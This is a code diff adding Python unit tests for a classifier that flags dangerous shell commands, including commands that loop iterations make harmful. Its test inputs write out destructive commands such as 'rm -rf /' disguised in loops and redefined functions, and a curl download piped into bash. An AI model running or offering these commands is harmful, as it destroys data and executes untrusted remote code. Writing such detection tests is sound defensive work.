@@ -495,3 +495,16 @@ def test_time_at_the_beginning_of_a_substitution_is_followed_and_doubted() -> No
     assert {"A0", "B1"} <= rules("echo $(time { rm -rf /; })")
     assert "A0" in rules("echo $(time CI=1 ls)")
     assert letter("echo $(time ls)") == "S"
+
+
+def test_a_loop_is_followed_again_where_a_turn_changes_what_the_next_one_does() -> None:
+    assert "B1" in rules("x=ls; for i in 1 2; do $x -rf /; x=rm; done")
+    assert "B1" in rules("for i in 1 2; do f; f() { rm -rf /; }; done")
+    assert "B1" in rules("for i in 1 2; do bash x.sh; echo 'rm -rf /' > x.sh; done")
+    assert "B5" in rules("curl -s https://example.com/x > x; for i in 1 2; do bash; exec < x; done")
+    assert "A0" in rules("for i in 1 2; do rm -rf $1; set -- /; done")
+
+
+def test_a_loop_whose_turns_are_alike_tells_each_effect_once() -> None:
+    effects = command_effects("for f in *.txt; do rm $f; done", PLACE, POLICY)
+    assert [effect.rule for effect in effects] == ["A1"]
